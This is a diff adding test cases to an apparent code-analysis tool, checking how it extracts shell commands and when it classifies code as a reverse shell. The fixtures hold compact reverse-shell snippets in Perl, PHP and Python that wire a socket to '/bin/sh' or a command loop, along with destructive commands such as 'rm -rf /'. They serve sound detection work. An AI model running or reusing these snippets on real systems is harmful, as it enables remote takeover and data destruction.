@@ -622,3 +622,77 @@ def test_commands_found_in_deeply_nested_or_exponentially_growing_code_are_limit
     language: str, code: str
 ) -> None:
     assert all(len(script) < 20_000 for script in analyze(language, code).scripts)
+
+
+@check_cases(
+    ("language", "code", "scripts"),
+    [
+        ("ruby", 'd = "/srv/a"\nsystem "rm -rf " + d\nputs "x"', ["rm -rf /srv/a"]),
+        ("ruby", 'c = "ls"\nputs "rm -rf /"\nsystem c\nputs "/"', ["ls"]),
+        ("ruby", 'system "ls"\n"rm -rf /"', ["ls"]),
+        ("node", 'const cp = require("child_process")\nconst c = "ls"\ncp.execSync(c)\n"rm"', ["ls"]),
+        ("node", 'const d = "a"\nconst e = "b"\nrequire("fs").unlinkSync(d)', ["rm -f -- a"]),
+        ("node", 'let c = "ls"\n+"x"\nrequire("child_process").execSync(c)', ["ls"]),
+        ("lua", 'local c = "ls"\nprint "rm -rf /"\nos.execute(c)', ["ls"]),
+        ("lua", 'os.remove "a"\nprint "b"', ["rm -f -- a"]),
+        ("awk", 'BEGIN {\n  c = "ls"\n  print "rm -rf /"\n  system(c)\n}', ["ls"]),
+        ("awk", 'BEGIN {\n  x = "a"\n  "date" | getline d\n}', ["date"]),
+        ("awk", '{ print $1\n  "date" | getline d }', ["date"]),
+        ("perl", 'my $c = "ls"\n; system "id"\n; print "rm"', ["id"]),
+    ],
+)
+def test_statements_on_different_lines_are_not_joined(language: str, code: str, scripts: list[str]) -> None:
+    assert list(analyze(language, code).scripts) == scripts
+
+
+CONNECTED = 'import os, socket, subprocess; s = socket.create_connection(("h", 1)); '
+PERL_CONNECTED = 'use Socket; connect(S, sockaddr_in(1, inet_aton("h"))); '
+
+
+@check_cases(
+    ("language", "code"),
+    [
+        ("perl", PERL_CONNECTED + 'open(STDIN, "<&S"); exec("cat /etc/hosts")'),
+        ("perl", PERL_CONNECTED + 'open(STDOUT, ">&", S); exec("cat /etc/hosts")'),
+        ("perl", PERL_CONNECTED + 'exec("/bin/sh -i")'),
+        ("perl", PERL_CONNECTED + "exec(\"sh -c 'cat' <&3\")"),
+        ("perl", 'use IO::Socket; $s = IO::Socket::INET->new("h:1"); while (<$s>) { system($_) }'),
+        ("php", '$s = fsockopen("h", 1); exec("/bin/sh -i");'),
+        ("php", "$s = fsockopen('h', 1); exec(\"/bin/sh -c 'cat' <&3 >&3\");"),
+        ("php", '$s = fsockopen("h", 1); proc_open("/bin/bash", [$s, $s, $s], $pipes);'),
+        ("php", '$s = stream_socket_client("tcp://h:1"); proc_open("/bin/sh", [$s, $s, $s], $p);'),
+        ("php", '$s = fsockopen("h", 1); while ($c = fgets($s)) { fwrite($s, shell_exec($c)); }'),
+        ("python", CONNECTED + "os.dup2(s.fileno(), 0); os.execlp('cat', 'cat')"),
+        ("python", CONNECTED + "subprocess.call(['/bin/sh', '-i'], stdin=s, stdout=s)"),
+        ("python", CONNECTED + "subprocess.run(['python3', '-i'], stdin=s, stdout=s)"),
+        ("python", CONNECTED + "os.system('sh -c cat <&3 >&3')"),
+        ("python", CONNECTED + "os.system(s.recv(99).decode())"),
+        (
+            "python",
+            "import socketserver, subprocess\n"
+            "class H(socketserver.BaseRequestHandler):\n"
+            "    def handle(self): subprocess.run(['sh'], stdin=self.request, stdout=self.request)\n"
+            "socketserver.TCPServer(('', 1), H).serve_forever()",
+        ),
+    ],
+)
+def test_socket_handed_to_a_program_is_exactly_one_reverse_shell(language: str, code: str) -> None:
+    kinds = [kind for kind, _ in effect_kinds(analyze(language, code))]
+    assert kinds.count(EffectKind.REVERSE_SHELL) == 1
+
+
+@check_cases(
+    ("language", "code"),
+    [
+        ("perl", PERL_CONNECTED + 'open(STDERR, ">&STDOUT"); print <S>'),
+        ("perl", PERL_CONNECTED + 'exec("date")'),
+        ("perl", 'open(STDIN, "<&S"); exec("/bin/sh -i")'),
+        ("php", '$s = fsockopen("h", 1); exec("date");'),
+        ("php", 'exec("/bin/sh -i");'),
+        ("python", CONNECTED + "subprocess.run(['python3', 'send.py'])"),
+        ("python", CONNECTED + "print(s.recv(99))"),
+        ("python", "import os; os.dup2(3, 0); os.execlp('sh', 'sh', '-i')"),
+    ],
+)
+def test_connection_or_shell_alone_is_not_a_reverse_shell(language: str, code: str) -> None:
+    assert EffectKind.REVERSE_SHELL not in [kind for kind, _ in effect_kinds(analyze(language, code))]
